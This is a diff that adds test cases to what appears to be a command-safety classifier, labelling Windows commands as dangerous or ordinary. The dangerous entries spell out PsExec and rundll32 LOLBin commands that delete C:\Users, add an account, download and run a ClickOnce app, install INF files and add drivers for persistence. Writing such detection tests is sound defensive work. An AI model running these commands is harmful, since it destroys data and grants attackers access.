@@ -4433,6 +4433,36 @@ ORDINARY += [
     ("FileSystem", _fs("read", r"C:\Users\me\.m2\repository\org\x\x.pom")),
 ]
 
+# PsExec runs its command (S-RULE-156); rundll32 starters and folder delete, INF, ClickOnce, drivers (S-RULE-157).
+DANGEROUS += [
+    ("PowerShell", _ps(r"psexec -accepteula -s -d cmd /c rd /s /q C:\Users"), "protected-place-delete"),
+    ("PowerShell", _ps(r'PsExec64.exe \\localhost -u admin -p x cmd /c "net user x P@ss /add"'), "account-change"),
+    (
+        "App",
+        {
+            "mode": "launch_executable",
+            "executable": r"C:\Tools\PsExec64.exe",
+            "args": ["-s", "cmd", "/c", "rd", "/s", "/q", r"C:\Users"],
+        },
+        "protected-place-delete",
+    ),
+    ("PowerShell", _ps(r"rundll32.exe advpack.dll,RegisterOCX cmd.exe /c rd /s /q C:\Users"), "protected-place-delete"),
+    ("PowerShell", _ps(r"rundll32 advpack.dll,DelNodeRunDLL32 C:\Users"), "protected-place-delete"),
+    (
+        "PowerShell",
+        _ps("rundll32 dfshim.dll,ShOpenVerbApplication http://x.example/app.application"),
+        "download-execute",
+    ),
+    ("PowerShell", _ps(r"rundll32 setupapi.dll,InstallHinfSection DefaultInstall 128 C:\t\x.inf"), "dynamic-command"),
+    ("PowerShell", _ps(r"cmstp /ni /s C:\t\x.inf"), "dynamic-command"),
+    ("PowerShell", _ps(r"pnputil /add-driver C:\t\x.inf /install"), "persistence-autostart"),
+]
+ORDINARY += [
+    ("PowerShell", _ps("psexec \\\\srv01 ipconfig /all")),
+    ("PowerShell", _ps("pnputil /enum-drivers")),
+    ("PowerShell", _ps(r"rundll32 shell32.dll,ShellExec_RunDLL notepad.exe C:\t\a.txt")),
+]
+
 CATEGORY_OF: dict[str, str] = {
     "recursive-delete": "destruction",
     "wildcard-delete": "destruction",
